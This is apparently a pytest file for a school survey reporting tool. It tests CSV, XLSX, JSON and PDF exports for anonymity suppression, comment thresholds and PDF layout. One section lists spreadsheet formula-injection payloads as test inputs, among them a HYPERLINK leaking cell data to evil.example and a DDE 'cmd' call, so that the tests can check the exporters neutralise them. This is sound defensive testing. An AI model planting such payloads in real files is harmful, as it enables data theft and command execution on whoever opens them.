"""Exports (CSV, XLSX, JSON, PDF) of a realistic triangulation report built on SQLite.

The report is built by the real analytics code from ORM rows, with some groups
above and some below the anonymity threshold of 5; the exports must only ever
show what the (already safe) report holds.
"""

from __future__ import annotations

import copy
import csv
import io
import json
from datetime import UTC, datetime
from typing import Any

import pytest

from backend.i18n import texts
from backend.reporting import biggest_gaps
from backend.reporting.charts.reading import answered_roles
from backend.reporting.exports import report_csv, report_json, report_pdf, report_xlsx
from backend.reporting.exports.csv_export import COLUMNS
from conversations.roles import ROLES
from tests.backend.reporting.sample import (
    ARMENIAN,
    GRADUATE_ANSWERS,
    SUPPRESSED_MEAN,
    UKRAINIAN,
    build_sample_reports,
    suppressed_graduate_keys,
)
from tests.backend.reporting.support import Word, pdf_pages, pdf_text, pdf_words


@pytest.fixture(scope="module")
def reports(tmp_path_factory) -> dict[str, dict[str, Any]]:
    return build_sample_reports(tmp_path_factory.mktemp("reports"))


def ind(report: dict[str, Any], key: str) -> dict[str, Any]:
    return next(i for i in report["indicators"] if i["key"] == key)


EVIDENCE = [
    {
        "indicator_key": "FL-1",
        "title": "Education fair 2025: photos and programme",
        "kind": "file",
        "note": "Ярмарок освіти, Київ",
        "date": "2025-10-02",
    },
    {
        "indicator_key": "VL-2",
        "title": "Curriculum plan with career lessons",
        "kind": "link",
        "note": "Ուսումնական պլան",
        "created_at": datetime(2025, 9, 1, tzinfo=UTC),
    },
]


# -- the sample itself -----------------------------------------------------------


def test_sample_report_has_shown_and_suppressed_groups(reports):
    now = reports["now"]
    assert now["school"]["name"] == ARMENIAN
    assert now["roles"]["graduate"]["started"] == 6
    assert suppressed_graduate_keys(now), "the 4 graduates' scores are released, withheld"
    shown = {r for i in now["indicators"] for r, g in i["roles"].items() if g["mean"] is not None}
    assert {"learner", "parent", "employer", "teacher"} <= shown
    assert "graduate" not in shown and "board" not in shown
    # The premise of the leak tests: the withheld mean, and no shown figure equal to it.
    scored = [v for v in GRADUATE_ANSWERS if v != "na"]
    assert sum(scored) / len(scored) == SUPPRESSED_MEAN
    assert "1.25" not in json.dumps(now)


# -- CSV --------------------------------------------------------------------------


def test_csv_parses_back_with_one_row_per_indicator_and_role(reports):
    now = reports["now"]
    data = report_csv(now)
    assert data.startswith(b"\xef\xbb\xbf")  # BOM for Excel
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert list(rows[0]) == list(COLUMNS)
    assert len(rows) == len(now["indicators"]) * len(now["roles"])
    by = {(r["key"], r["role"]): r for r in rows}

    key = next(i["key"] for i in now["indicators"] if i["roles"]["learner"]["mean"] is not None)
    learner = by[(key, "learner")]
    src = ind(now, key)
    assert float(learner["mean"]) == src["roles"]["learner"]["mean"]
    assert int(learner["n"]) == src["roles"]["learner"]["n"]
    assert learner["dimension"] == src["dimension"] and learner["theme"] == src["theme"]
    if src["gap"]["learner"] is not None:
        assert float(learner["gap"]) == src["gap"]["learner"]

    for gkey in suppressed_graduate_keys(now):
        row = by[(gkey, "graduate")]
        assert row["n"] == "4"
        assert row["mean"] == row["na"] == row["gap"] == row["flag"] == "suppressed"

    flagged = [r for r in rows if r["flag"] in ("blind_spot", "hidden_strength")]
    assert flagged


def test_csv_of_empty_report(reports):
    rows = list(csv.DictReader(io.StringIO(report_csv(reports["empty"]).decode("utf-8-sig"))))
    assert rows and all(r["mean"] == "" and r["n"] == "0" for r in rows)


# -- JSON ---------------------------------------------------------------------------


def test_json_round_trips_and_is_stable(reports):
    for report in reports.values():
        data = report_json(report)
        assert json.loads(data.decode("utf-8")) == report
        assert report_json(report) == data
    assert ARMENIAN.encode("utf-8") in report_json(reports["now"])  # not \u-escaped


# -- XLSX ---------------------------------------------------------------------------


def _workbook(data: bytes):
    from openpyxl import load_workbook

    return load_workbook(io.BytesIO(data))


def _sheet_rows(ws) -> list[dict[str, Any]]:
    values = list(ws.iter_rows(values_only=True))
    return [dict(zip(values[0], row, strict=True)) for row in values[1:]]


def test_xlsx_sheets_values_and_marks(reports):
    now = reports["now"]
    wb = _workbook(report_xlsx(now))
    assert wb.sheetnames == [
        "Summary",
        "Dimension 1",
        "Dimension 2",
        "Dimension 3",
        "Gaps",
        "Comments",
    ]

    summary = {row[0]: row[1] for row in wb["Summary"].iter_rows(values_only=True) if row[0]}
    assert summary["School"] == ARMENIAN
    assert summary["Cycle"] == "2025/26"
    assert summary["Model version"] == now["model_version"]
    assert summary["Anonymity threshold (people)"] == 5
    assert summary["learner"] == "Learners"

    ws = wb["Dimension 1"]
    assert ws.freeze_panes == "C2"
    assert ws.column_dimensions["E"].width == 60
    rows = {r["Key"]: r for r in _sheet_rows(ws)}
    dim1 = [i for i in now["indicators"] if i["dimension"] == "1"]
    assert list(rows) == [i["key"] for i in dim1]
    for i in dim1:
        row = rows[i["key"]]
        assert row["Self"] == i["self"]
        for role, label in (("learner", "Learners"), ("graduate", "Graduates")):
            g = i["roles"][role]
            assert row[f"{label} respondents"] == (g["respondents"] or g["n"])
            if g["suppressed"]:
                assert row[f"{label} mean"] == "suppressed"
            else:
                assert row[f"{label} mean"] == g["mean"]  # a number, not a string
    # suppressed cells are greyed; flagged gaps filled
    header = [c.value for c in ws[1]]
    grad_col = header.index("Graduates mean") + 1
    grey = [
        ws.cell(row=r, column=grad_col).fill.fgColor.rgb
        for r in range(2, ws.max_row + 1)
        if ws.cell(row=r, column=grad_col).value == "suppressed"
    ]
    assert grey and set(grey) == {"00D9D9D9"}
    assert ws.conditional_formatting  # colour scale on the means

    gaps = _sheet_rows(wb["Gaps"])
    top = biggest_gaps(now, 1)[0]
    assert (gaps[0]["Key"], gaps[0]["Role"], gaps[0]["Gap"]) == (
        top["key"],
        top["role"],
        top["gap"],
    )
    assert any(g["Flag"] == "blind spot" for g in gaps)


def test_xlsx_of_empty_report(reports):
    wb = _workbook(report_xlsx(reports["empty"]))
    assert "Gaps" in wb.sheetnames
    assert wb["Gaps"].max_row == 1  # heading only


# -- user text is text, never a formula (OWASP CSV injection) -------------------------

# What a school, a cycle or a filter may be called: each would run as a formula in Excel,
# LibreOffice or Google Sheets if written as one (a leading tab or CR too, after trimming).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
    "=cmd|' /C calc'!A0",
]


def _hostile(report: dict[str, Any], school: str, cycle: str) -> dict[str, Any]:
    out = copy.deepcopy(report)
    out["school"] = {**out["school"], "name": school, "slug": school}
    out["cycle"] = {**out["cycle"], "name": cycle}
    out["filter"] = {**(out.get("filter") or {}), "roles": [cycle], "languages": [school]}
    return out


def test_xlsx_writes_user_text_as_text_never_as_a_formula(reports):
    for i, text in enumerate(FORMULAS):
        report = _hostile(reports["now"], text, FORMULAS[-1 - i])
        wb = _workbook(report_xlsx(report))
        formulas = [
            f"{ws.title}!{c.coordinate}={c.value!r}"
            for ws in wb.worksheets
            for row in ws.iter_rows()
            for c in row
            if c.data_type == "f"
        ]
        assert not formulas, formulas
        summary = wb.worksheets[0]
        cells = [c for row in summary.iter_rows() for c in row if isinstance(c.value, str)]
        for given in (text, FORMULAS[-1 - i]):
            # XML keeps a CR as a newline; the text is otherwise exactly what was given.
            found = [c for c in cells if c.value.replace("\n", "\r") == given.replace("\n", "\r")]
            assert found and all(c.data_type == "s" for c in found), (given, found)


def test_xlsx_drops_characters_a_workbook_cannot_hold(reports):
    """Control characters in a name (which XML 1.0 cannot hold) made openpyxl raise."""
    report = _hostile(reports["now"], "Bad\x01 \x0bschool\x1f", "Cycle \x08one\x00")
    wb = _workbook(report_xlsx(report))
    values = [c.value for row in wb.worksheets[0].iter_rows() for c in row]
    assert "Bad school" in values and "Cycle one" in values


def test_csv_text_cells_cannot_start_a_formula(reports):
    report = copy.deepcopy(reports["now"])
    first, second = report["indicators"][0], report["indicators"][1]
    role = next(iter(first["roles"]))
    texts = {"key": FORMULAS[0], "theme": "+1+2", "criterion": "@SUM(1,2)", "id": "\t=1+2"}
    first.update(texts)
    first["roles"][FORMULAS[1]] = first["roles"].pop(role)
    second["dimension"] = "-1+2"
    rows = list(csv.DictReader(io.StringIO(report_csv(report).decode("utf-8-sig"))))
    risky = ("=", "+", "-", "@", "\t", "\r")
    for row in rows:
        for column, value in row.items():
            try:
                float(value)
                continue  # a number (a negative gap is one), written as one
            except ValueError:
                assert not value.startswith(risky), (column, value)
    mine = [r for r in rows if r["key"] == "'" + FORMULAS[0]]
    assert mine and mine[0]["theme"] == "'+1+2" and mine[0]["id"] == "'\t=1+2"
    assert any(r["role"] == "'" + FORMULAS[1] for r in mine)
    assert any(r["dimension"] == "'-1+2" for r in rows)
    # Negative numbers stay numbers.
    gaps = [float(r["gap"]) for r in rows if r["gap"] not in ("", "suppressed")]
    assert any(g < 0 for g in gaps)


# -- PDF ----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def full_pdf(reports) -> bytes:
    return report_pdf(reports["now"], evidence=EVIDENCE, previous=reports["before"])


def test_pdf_full_report(full_pdf, tmp_path):
    data = full_pdf
    assert data.startswith(b"%PDF")
    assert pdf_pages(data, tmp_path) >= 12
    text = pdf_text(data, tmp_path)
    assert ARMENIAN in text
    for needle in (
        "Summary",
        "Anonymity",
        "Responses per group",
        "The biggest gaps",
        "blind spot",
        "Indicators: self-assessment and groups",
        "Evidence portfolio",
        "Education fair 2025",
        "Ярмарок освіти",
        "Ուսումնական պլան",
        "2025-09-01",
        "Change since 2024/25",
    ):
        assert needle in text, needle


def test_pdf_gaps_table_carries_each_gaps_interval(reports, tmp_path):
    """The PDF's gaps table gives each gap's 95% interval and says when it includes 0."""
    now = copy.deepcopy(reports["now"])
    top = biggest_gaps(now, 1)[0]
    ind = next(i for i in now["indicators"] if i["key"] == top["key"])
    low, high = (-0.4, 2.2) if top["gap"] > 0 else (-2.2, 0.4)  # across 0: may be noise
    ind["gap_ci95"][top["role"]], ind["gap_clear"][top["role"]] = [low, high], False
    text = " ".join(pdf_text(report_pdf(now), tmp_path).split())
    assert "Under each gap, its interval (95%)" in text
    signed = [f"{v:+.1f}" for v in (low, high)]
    assert f"{signed[0]}…{signed[1]}" in text
    assert "may be noise" in text


def test_pdf_ukrainian_school_and_empty_report(reports, tmp_path):
    data = report_pdf(reports["empty"])
    assert data.startswith(b"%PDF")
    assert pdf_pages(data, tmp_path) >= 3
    text = pdf_text(data, tmp_path)
    assert UKRAINIAN in text
    assert "No data yet" in text


# -- anonymity: a suppressed mean appears in no export --------------------------------


def _xlsx_values(data: bytes) -> list[Any]:
    wb = _workbook(data)
    return [v for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for v in row]


def test_no_suppressed_mean_in_any_export(reports, full_pdf, tmp_path):
    now = reports["now"]
    assert suppressed_graduate_keys(now)
    needle = "1.25"
    assert needle not in report_csv(now).decode("utf-8-sig")
    assert needle not in report_json(now).decode("utf-8")
    for value in _xlsx_values(report_xlsx(now)):
        if isinstance(value, int | float):
            assert value != SUPPRESSED_MEAN
        elif isinstance(value, str):
            assert needle not in value
    assert needle not in pdf_text(full_pdf, tmp_path)


# -- what respondents wrote (the report's released texts) ----------------------------------

WRITTEN = ["Mock interviews were really useful.", "The internship fair was crowded but worth it."]


def with_comments(report: dict[str, Any]) -> dict[str, Any]:
    """The report with released learner texts, and parents' withheld (as a reader with a
    higher free-text threshold than the writers would see them)."""
    return {
        **report,
        "comments": {
            "learner": {"l22": {"answered": 12, "texts": list(WRITTEN)}},
            "parent": {"pa18": {"answered": 4, "texts": None}},
        },
    }


def test_xlsx_comments_sheet(reports):
    now = with_comments(reports["now"])
    rows = _sheet_rows(_workbook(report_xlsx(now))["Comments"])
    learner = [r for r in rows if r["Role"] == "learner"]
    assert [r["Comment"] for r in learner] == WRITTEN
    for r in learner:
        assert r["Group"] == "Learners"
        assert r["Question"].startswith("Something great your school did")
        assert r["Evidence for"].startswith("ME-5 Collects feedback on services")
    (parent,) = [r for r in rows if r["Role"] == "parent"]
    assert parent["Comment"] == "(4 people wrote: fewer than 10, so the texts are not shown)"

    hy = texts("hy")
    wb = _workbook(report_xlsx(now, tx=hy))
    sheet = _sheet_rows(wb[hy.gettext("Comments")])
    assert [
        r[hy.gettext("Comment")] for r in sheet if r[hy.gettext("Role")] == "learner"
    ] == WRITTEN
    assert hy.role_name("learner") in {r[hy.gettext("Group")] for r in sheet}

    # Not for a reader who may not read them (a peer reviewer of another school).
    assert "Comments" not in _workbook(report_xlsx(now, comments=False)).sheetnames
    empty = _workbook(report_xlsx(reports["empty"]))["Comments"]
    assert "No free-text answer has been released yet" in empty.cell(row=2, column=1).value


def test_pdf_comments_section(reports, tmp_path):
    now = with_comments(reports["now"])
    text = " ".join(pdf_text(report_pdf(now), tmp_path).split())
    assert "What respondents wrote" in text
    for written in WRITTEN:
        assert f"“{written}”" in text
    assert "Something great your school did to help you plan your future" in text
    assert "Evidence for the indicator: ME-5 Collects feedback on services" in text
    assert "(4 people wrote: fewer than 10, so the texts are not shown)" in text
    peer = " ".join(pdf_text(report_pdf(now, comments=False), tmp_path).split())
    assert "What respondents wrote" not in peer
    assert not any(written in peer for written in WRITTEN)


# -- the PDF's indicator table: whole words in the heads, whole statements ----------------


def many_groups(report: dict[str, Any]) -> dict[str, Any]:
    """The report with every group answering (those that did not, as the learners did)."""
    out = copy.deepcopy(report)
    extra = [r.value for r in ROLES if r.value not in answered_roles(report)]
    for i in out["indicators"]:
        for r in extra:
            i["roles"][r] = copy.deepcopy(i["roles"]["learner"])
            i["gap"][r], i["flag"][r] = i["gap"]["learner"], i["flag"]["learner"]
    for r in extra:
        out["roles"][r] = copy.deepcopy(out["roles"]["learner"])
    assert len(answered_roles(out)) == len(ROLES)
    return out


def _table_pages(pages: list[list[Word]], tx) -> list[tuple[list[Word], list[Word]]]:
    """(head words, Indicator-column words) of every page of the indicator table."""
    found = []
    first_word = {name: tx.gettext(name).split()[0] for name in ("Indicator", "Self")}
    for words in pages:
        for w in words:
            if w.text != tx.gettext("ID"):
                continue
            row = [v for v in words if abs(v.y0 - w.y0) < 1 and v.x0 > w.x0]
            ind = next((v for v in row if v.text == first_word["Indicator"]), None)
            own = next((v for v in row if v.text == first_word["Self"]), None)
            if ind is None or own is None:
                continue
            column = sorted(
                (v for v in words if ind.x0 - 1 <= v.x0 < own.x0 - 1 and v.y0 < 540),
                key=lambda v: (round(v.y0), v.x0),
            )
            data_top = min(v.y0 for v in column if v.y0 > ind.y1)
            heads = [v for v in words if w.y0 - 1 <= v.y0 and v.y1 <= data_top + 0.1]
            found.append((heads, [v for v in column if v.y0 > ind.y1]))
    return found


@pytest.mark.parametrize("lang", ["en", "hy", "uk"])
@pytest.mark.parametrize("groups", ["five", "all"])
def test_pdf_indicator_table_heads_and_statements(reports, tmp_path, lang, groups):
    """No head of the table breaks inside a word (with many groups the heads are abbreviations
    spelt out in a legend), and every statement is printed whole: FL-6 and FL-7, which begin
    alike, read differently and completely."""
    tx = texts(lang)
    report = reports["now"] if groups == "five" else many_groups(reports["now"])
    roles = answered_roles(report)
    data = report_pdf(report, tx=tx)
    allowed = {
        word
        for head in [
            tx.gettext("ID"),
            tx.gettext("Indicator"),
            tx.gettext("Self"),
            *(tx.label("short group", r) for r in roles),
            *(tx.label("group abbreviation", r) for r in roles),
        ]
        for word in head.split()
    }
    pages = _table_pages(pdf_words(data, tmp_path), tx)
    assert pages
    column: list[str] = []
    for heads, words in pages:
        split = sorted({h.text for h in heads} - allowed)
        assert not split, f"heads broken inside a word: {split}"
        column += [w.text for w in words]
    statements = " ".join(column)
    model = texts(lang).model
    for key in ("FL-6", "FL-7", "FL-2", "VL-1"):
        whole = " ".join(model.indicator(key).text.split())
        assert whole in statements, key
    assert model.indicator("FL-6").text != model.indicator("FL-7").text
    if groups == "all":
        legend = " ".join(pdf_text(data, tmp_path).split())
        for r in roles:
            assert f"{tx.label('group abbreviation', r)} {tx.role_name(r)}" in legend, r


ACTIONS = [
    {
        "indicator_key": "FL-6",
        "title": "Use the regional skills forecast in the guidance plan",
        "owner": "Head of guidance",
        "due_date": "2026-06-30",
        "status": "in_progress",
    }
]


def broken_words(text: str, heads: list[str]) -> list[str]:
    """Head words that pdftotext shows broken across lines: a token (three letters or more)
    that starts a head word, and on one of the next two lines a token that continues it."""
    lines = [line.split() for line in text.splitlines()]
    words = {w for head in heads for w in head.split() if len(w) > 2}
    found = []
    for n, line in enumerate(lines):
        below = [t for later in lines[n + 1 : n + 3] for t in later]
        for token in line:
            for w in words:
                if len(token) < 3 or token == w or not w.startswith(token):
                    continue  # (a one- or two-letter token is a word of its own: "з", "a")
                if any(w.startswith(token + t) for t in below):
                    found.append(f"{token}|{w}")
    return sorted(set(found))


@pytest.mark.parametrize("lang", ["en", "hy", "uk"])
def test_pdf_no_table_head_breaks_inside_a_word(reports, tmp_path, lang):
    """Every table of the PDF (responses, gaps, indicators, comparison, evidence, action plan)
    sets its heads in whole words, in each language."""
    tx = texts(lang)
    data = report_pdf(
        many_groups(reports["now"]),
        evidence=EVIDENCE,
        previous=reports["before"],
        actions=ACTIONS,
        tx=tx,
    )
    heads = [
        tx.gettext(h)
        for h in (
            "Group", "Started", "Completed", "Indicator", "Self", "Group mean", "Respondents",
            "Gap", "Flag", "ID", "Dimension", "Rated by", "now", "Change", "Action", "Owner",
            "Due", "Status", "Title", "Kind", "Note", "Date",
        )
    ]  # fmt: skip
    heads += [tx.label("short group", r.value) for r in ROLES]
    assert broken_words(pdf_text(data, tmp_path), heads) == []


def test_broken_words_finds_a_head_set_in_pieces():
    assert broken_words("Self   Respondent  Gap\n          s\nWS-4", ["Respondents"]) == [
        "Respondent|Respondents"
    ]
    assert broken_words("Ինքնա\nգնահա\nտական", ["Ինքնագնահատական"]) == ["Ինքնա|Ինքնագնահատական"]
    assert broken_words("Respondents Gap\n s", ["Respondents"]) == []
